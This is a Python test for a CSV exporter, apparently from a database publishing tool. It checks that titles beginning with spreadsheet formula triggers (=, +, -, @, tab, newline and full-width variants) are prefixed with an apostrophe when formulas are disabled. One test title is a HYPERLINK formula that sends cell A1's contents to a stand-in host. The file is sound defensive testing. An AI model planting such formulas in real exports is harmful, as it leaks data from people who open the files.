"""CSV for spreadsheets: what a page says must not be run by the reader's computer, and must not be changed unasked."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from db.export import FORMULA, Selection, export
from db.publish import publish
from tests.db.alike import Corpus, letter

TITLES = (
    '=HYPERLINK("http://a.example/?"&A1,"答复")',
    "+86 答复",
    "-一号建议",
    "@SUM(A1)",
    "\t=1",
    "\n=1",
    "＝1+1",
    "＋86 答复",
    "－一号建议",
    "＠SUM(A1)",
    "关于建议=好",
)


def test_formulas_are_kept_as_they_are_or_disarmed(tmp_path: Path) -> None:
    corpus = Corpus(tmp_path / "corpus.db")
    for number, title in enumerate(TITLES):
        corpus.add(letter(number), title=title)
    corpus.finish()
    path = publish(corpus.path, tmp_path / "dafu.db").path

    def titles(*, formulas: bool) -> list[str]:
        out = io.StringIO(newline="")
        export(path, Selection(), "csv", out, formulas=formulas)
        return [row["title"] for row in csv.DictReader(io.StringIO(out.getvalue(), newline=""))]

    assert titles(formulas=True) == list(TITLES)
    safe = titles(formulas=False)
    assert safe == [f"'{title}" for title in TITLES[:-1]] + [TITLES[-1]]
    assert not any(title.startswith(FORMULA) for title in safe)
